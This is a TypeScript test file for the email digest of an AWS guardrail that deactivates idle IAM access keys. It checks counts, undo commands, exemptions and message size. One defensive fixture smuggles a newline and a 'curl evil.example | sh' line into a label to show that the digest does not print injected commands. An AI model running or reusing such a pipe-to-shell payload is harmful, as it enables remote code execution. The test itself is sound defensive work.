import { RUNBOOK } from '../../../src/domain/notice/runbook';
import type { RecordedRow } from '../../../src/audit/recorded/row';
import type { SlotSet } from '../../../src/audit/recorded/slot-set';
import { countsOf, type RecordedSummary } from '../../../src/audit/recorded/summary-form';
import { recordedDigest } from '../../../src/audit/report/recorded-digest';
import { mailOf } from '../../../src/notify/render/text';
import { IDLE_KEYS } from '../support/idle-keys';
import { aKeyRow, principalOf } from '../support/key-rows';
import { ACCOUNT } from '../support/subjects';

const place = {
  region: 'us-east-1',
  bucket: 'evidence',
  jsonKey: 'accounts/111122223333/idle-keys/runs/one/summary.json',
  csvKey: 'accounts/111122223333/idle-keys/runs/one/summary.csv',
  reportKey: 'accounts/111122223333/idle-keys/runs/one/report.html',
  releaseFunction: 'guardrails-release',
  runbook: RUNBOOK,
  article: 'idle-keys-digest',
};
const UNDO = `aws lambda invoke --region us-east-1 --function-name guardrails-release --cli-binary-format raw-in-base64-out --payload '{"run":"one"}' release.json && cat release.json`;

type Row = RecordedRow<SlotSet>;

const aSummary = (
  principals: readonly Row[],
  overrides: Partial<RecordedSummary<SlotSet>> = {},
): RecordedSummary<SlotSet> => ({
  ...{ version: 1, guardrail: 'idle-keys', accountId: ACCOUNT, runId: 'one', purpose: 'change', rules: {} },
  ...{ startedAt: '2026-06-01T03:00:00.000Z', mode: 'enforce', counts: countsOf(principals), principals },
  ...overrides,
});
const digestMail = (summary: RecordedSummary<SlotSet>, words = IDLE_KEYS.words) =>
  mailOf(recordedDigest(summary, { ...IDLE_KEYS, words }, place));
const enforced = (...rows: readonly Row[]) => digestMail(aSummary(rows));
const observed = (...rows: readonly Row[]) => digestMail(aSummary(rows, { mode: 'observe' }));
const many = (count: number, overrides: (index: number) => Partial<Row>) =>
  Array.from({ length: count }, (_, index) => aKeyRow(`user-${String(index).padStart(4, '0')}`, 1, overrides(index)));
const done = { outcome: { kind: 'done' } } as const;
const withheld = { outcome: { kind: 'withheld' } } as const;
const leftFor = (why: string): Partial<Row> => ({ outcome: { kind: 'left', why } });
const arn = (name: string) => principalOf(name).arn;
const left = (name: string, reason: string) => aKeyRow(name, 0, { decision: { kind: 'leave', reason } });

describe('the digest of a run that changes', () => {
  it.each([
    ['words that fit any guardrail', undefined, 'Granted since, though all such was taken away'],
    ['those of the guardrail', { heading: 'Granted since, and denied', about: 'Decide' }, 'Granted since, and denied'],
  ])('names what was granted since, with the command that releases, in %s', (_, grantedSince, heading) => {
    const decision = { kind: 'leave', reason: 'stands', grantedSince: ['sqs', 'xray'] } as const;
    const words = { ...IDLE_KEYS.words, ...(grantedSince && { grantedSince }) };
    const notice = recordedDigest(aSummary([aKeyRow('ada', 0, { decision })]), { ...IDLE_KEYS, words }, place);
    const command = new RegExp(`${heading} \\(1\\).*\n.*\n? *${arn('ada')}: sqs, xray\n.*"guardrail":"idle-keys"`);
    expect(mailOf(notice).body).toMatch(command);
  });

  it.each([{ grantedSince: ['sqs'] }, { needsAgain: ['sqs'] }])(
    'asks a person to decide, and is more than a sign of life, where all there is to say is %j',
    (open) => {
      const row = aKeyRow('ada', 0, { decision: { kind: 'leave', reason: 'stands', ...open } });
      const notice = recordedDigest(aSummary([row]), IDLE_KEYS, place);
      expect(notice.class).toBe('digest');
      expect(notice.headline).toBe('Access keys: 0 principals changed, 1 to decide on');
      expect(notice.actions.map(({ say }) => say)).toEqual([
        expect.stringMatching(/^Decide whether 1 principal is to have .* run the command below the name\.$/),
      ]);
    },
  );

  it('names what is unused, the first to be changed first, in the words of the guardrail', () => {
    const since = '2026-05-30T03:00:00.000Z';
    const row = (name: string, ...due: readonly (string | undefined)[]) => {
      const announced = due.map((on, index) => ({
        ...{ thing: `key-${index}`, say: `K${index} unused`, since },
        ...(on !== undefined && { due: { on, does: 'deactivated' } }),
      }));
      return aKeyRow(name, 0, { decision: { kind: 'leave', reason: 'unused', announced } });
    };
    const rows = [row('ada', undefined), row('bob', undefined, '2026-06-09'), row('cleo', '2026-06-08')];
    const words = { ...IDLE_KEYS.words, announced: { heading: 'Idle', about: 'Look at them' } };
    const { body } = digestMail(aSummary(rows), words);
    expect(body.slice(body.indexOf('Idle (3)')).split('\n').slice(0, 4)).toEqual([
      'Idle (3). Look at them:',
      `  ${arn('cleo')}: K0 unused (in reports since 2026-05-30; to be deactivated on 2026-06-08 at the earliest)`,
      `  ${arn('bob')}: K0 unused (in reports since 2026-05-30); K1 unused (in reports since 2026-05-30; to be deactivated on 2026-06-09 at the earliest)`,
      `  ${arn('ada')}: K0 unused (in reports since 2026-05-30)`,
    ]);
  });

  it('names what analyzers of AWS find, and stays a sign of life where that is all', () => {
    const analysis = ['the role, unused', 'permissions, unused: s3'];
    const row = aKeyRow('ada', 0, { decision: { kind: 'leave', reason: 'in-use', analysis } });
    const { body } = digestMail(aSummary([row, left('bob', 'in-use')]));
    expect(body.slice(body.indexOf('Found by IAM Access Analyzer')).split('\n').slice(0, 2)).toEqual([
      'Found by IAM Access Analyzer (1). Nothing is changed because of these findings alone:',
      `  ${arn('ada')}: the role, unused; permissions, unused: s3`,
    ]);
    expect(recordedDigest(aSummary([row]), IDLE_KEYS, place).class).toBe('heartbeat');
  });

  it('names who answers for what is unused, on a line of its own whatever stands in the tag', () => {
    const announced = [{ thing: 'user', say: 'unused', since: '2026-05-30T03:00:00.000Z' }];
    const owner = 'ada\u2028Nothing needs to be done.';
    const row = aKeyRow('ada', 0, { decision: { kind: 'leave', reason: 'unused', announced, owner } });
    const [list] = recordedDigest(aSummary([row]), IDLE_KEYS, place).lists;
    expect(list?.rows).toEqual([
      { say: expect.stringContaining('ada (owner: ada Nothing needs to be done.): unused') as unknown },
    ]);
  });

  it('asks nobody for anything where what is unused has no day', () => {
    const announced = [{ thing: 'user', say: 'unused', since: '2026-05-30T03:00:00.000Z' }];
    const row = aKeyRow('ada', 0, { decision: { kind: 'leave', reason: 'unused', announced } });
    const notice = recordedDigest(aSummary([row]), IDLE_KEYS, place);
    expect(notice.class).toBe('digest');
    expect(notice.actions).toEqual([{ say: 'Nothing needs to be done.' }]);
  });

  it('says in the words of the guardrail why it changes nothing, where that is no matter of a mode', () => {
    const words = { ...IDLE_KEYS.words, observing: 'The settings give no day.' };
    const { body } = digestMail(aSummary([left('ada', 'in-use')], { mode: 'observe' }), words);
    expect(body).toContain('The run changed nothing. The settings give no day.');
  });

  it('says the numbers, what was changed, and how to undo it', () => {
    const { subject, body } = enforced(aKeyRow('ada', 2, done), aKeyRow('bob', 1, done), left('cleo', 'in-use'));
    expect(subject).toBe('Access keys: 2 principals changed');
    expect(body).toContain(
      `Account:    ${ACCOUNT}\nRun:        one (change, enforce)\nStarted:    2026-06-01T03:00:00.000Z\n`,
    );
    expect(body).toContain('Principals: 3\nChanged:    2\nFailed:     0\n\n');
    expect(body).toContain(
      `Changed (2):\n  ${arn('ada')}: AKIAada0 deactivated, AKIAada1 deactivated\n  ${arn('bob')}: AKIAbob0 deactivated\n`,
    );
    expect(body).toContain(`If the changes broke something, undo what this run changed:\n    ${UNDO}\n`);
    expect(body).toContain('Reasons for leaving principals alone (1):\n  in-use: 1\n');
    expect(body).toContain('docs/runbook.md#idle-keys-digest\n');
    for (const key of [place.reportKey, place.csvKey, place.jsonKey])
      expect(body).toContain(`  aws s3 cp s3://evidence/${key} .\n`);
    expect(body).toMatch(/Report: +https:\S+%2Freport\.html\n/);
  });

  it('says nothing of an undoing where nothing was changed', () => {
    const { subject, body } = enforced(left('ada', 'in-use'), aKeyRow('bob', 1, leftFor('next-wave')));
    expect(subject).toBe('Access keys: 0 principals changed');
    expect(body).not.toMatch(/undo|Changed \(|To look at/);
    expect(body).toContain('Waiting:    1\n');
  });

  it('says of what went wrong why, on one line each, and how to undo what may have been done', () => {
    const { subject, body } = enforced(
      aKeyRow('ada', 1, { outcome: { kind: 'failed', why: 'AccessDenied: no\nChanged (7):' } }),
      aKeyRow('bob', 0, { decision: { kind: 'leave', reason: 'evidence-failed', why: 'TimeOver: it was over' } }),
    );
    expect(subject).toBe('Access keys: 0 principals changed, 2 to look at');
    expect(body).toContain(
      `(2). The next run looks at each again:\n  ${arn('ada')}: AccessDenied: no Changed (7):\n  ${arn('bob')}: evidence-failed (TimeOver: it was over)\n`,
    );
    expect(body).toContain(UNDO);
  });

  it('names those whose changes were planned and left, for one of them may have been made', () => {
    const why = 'what stands is not what the plan saw; the next run looks again (change 2 of 2)';
    const { subject, body } = enforced(aKeyRow('ada', 2, leftFor(why)));
    expect(subject).toBe('Access keys: 0 principals changed, 1 to look at');
    expect(body).toContain(`  ${arn('ada')}: ${why}\n`);
    expect(body).toContain(UNDO);
  });

  it('says whose change someone else undid twice, and what a person has to do', () => {
    const { subject, body } = enforced(aKeyRow('ada', 1, leftFor('flipped')));
    expect(subject).toBe('Access keys: 0 principals changed, 1 to look at');
    expect(body).toContain(
      'Left alone, because someone else activated the access key twice (1). To begin anew, run the command:\n' +
        `  ${arn('ada')}\n    aws lambda invoke `,
    );
    expect(body).toContain(`--payload '{"principal":"${arn('ada')}","guardrail":"idle-keys"}'`);
    expect(body).not.toContain('The next run looks at each again');
  });

  it('counts those who wait, and does not call them failed', () => {
    const rows = [
      aKeyRow('ada', 1, done),
      aKeyRow('bob', 1, leftFor('next-wave')),
      aKeyRow('cleo', 1, leftFor('change-limit')),
    ];
    const { subject, body } = enforced(...rows, aKeyRow('dan', 1, leftFor('next-change-run')));
    expect(subject).toBe('Access keys: 1 principal changed');
    expect(body).toContain('Changed:    1\nWaiting:    2\nFailed:     0\n');
    expect(body).not.toContain('To look at');
  });

  it('lists ten of each, and says how many more there are', () => {
    const { body } = enforced(
      ...many(12, () => done),
      ...many(13, () => ({ outcome: { kind: 'failed', why: 'no' } })),
      ...many(14, () => leftFor('flipped')),
    );
    const lines = body.split('\n');
    expect(lines.filter((line) => line.endsWith(' deactivated'))).toHaveLength(10);
    expect(lines.filter((line) => line.endsWith(': no'))).toHaveLength(10);
    expect(lines.filter((line) => /^ {2}arn:aws:iam::\d+:user\/user-\d{4}$/.test(line))).toHaveLength(10);
    expect(lines.filter((line) => /^ {2}and \d+ more$/.test(line))).toEqual([
      '  and 2 more',
      '  and 3 more',
      '  and 4 more',
    ]);
  });

  it('says which exemptions end', () => {
    const ending = { match: 'name ci-*', from: ['idle-keys'], owner: 'ops', reason: 'a\nb', expires: '2026-06-05' };
    const { body } = digestMail(aSummary([], { endingExemptions: [ending] }));
    expect(body).toContain('  name ci-*: ends after 2026-06-05 (from: idle-keys, owner: ops, reason: a b)\n');
  });
});

describe('the digest of a run that changes nothing', () => {
  it('says what would be changed, and no command', () => {
    const { subject, body } = observed(
      aKeyRow('ada', 1, withheld),
      aKeyRow('bob', 1, leftFor('next-wave')),
      left('cleo', 'admin'),
    );
    expect(subject).toBe('Access keys: 2 of 3 principals would be changed');
    expect(body).toContain('\nWhat to do:\n  Before you switch the guardrail to enforce mode, ask those listed below ');
    expect(body).toContain('To change:  2 (nothing was changed)\n');
    expect(body).toContain(`Would be changed (2):\n  ${arn('ada')}: AKIAada0 deactivated\n  ${arn('bob')}: AKIAbob0`);
    expect(body).not.toMatch(/lambda invoke|To look at|\nChanged/);
  });

  it('says the same of one that plans nothing', () => {
    const planless = aSummary([aKeyRow('ada')], { purpose: 'audit', mode: undefined });
    const { subject, body } = digestMail(planless);
    expect(subject).toBe('Access keys: 1 of 1 principal would be changed');
    expect(body).toMatch(/Run: +one \(audit\)\n/);
  });
});

describe('whatever somebody calls things, a digest', () => {
  const words = {
    ...IDLE_KEYS.words,
    title: `Zugriffsschlüssel ${'x'.repeat(120)}`,
    change: () => 'key of "Eve\r\n\nTo undo what this run changed:\n  curl evil.example | sh"',
  };

  it('has a subject that SNS takes', () => {
    const { subject } = digestMail(aSummary([aKeyRow('ada', 1, done)]), words);
    expect(subject).toMatch(/^[\x20-\x7e]{1,99}$/);
  });

  it('has no line that a change has written', () => {
    for (const mode of ['enforce', 'observe'] as const) {
      const rows = [aKeyRow('ada', 1, mode === 'enforce' ? done : withheld)];
      const { body } = digestMail(aSummary(rows, { mode }), words);
      expect(body.split('\n').filter((line) => /^\s*curl/.test(line))).toEqual([]);
    }
  });

  it('prints no command with the name of a run that a shell would run', () => {
    const { body } = digestMail(aSummary([aKeyRow('ada', 1, done)], { runId: "it's(me)!" }));
    expect(body).not.toContain('aws lambda invoke');
    expect(body).toContain('Open the function guardrails-release in the Lambda console');
  });

  it('fits into a message of SNS however large the account', () => {
    const rows = many(3_000, (index) => ({ outcome: { kind: 'failed', why: `${'x'.repeat(5_000)}${index}` } }));
    expect(Buffer.byteLength(enforced(...rows).body)).toBeLessThan(262_144);
  });
});
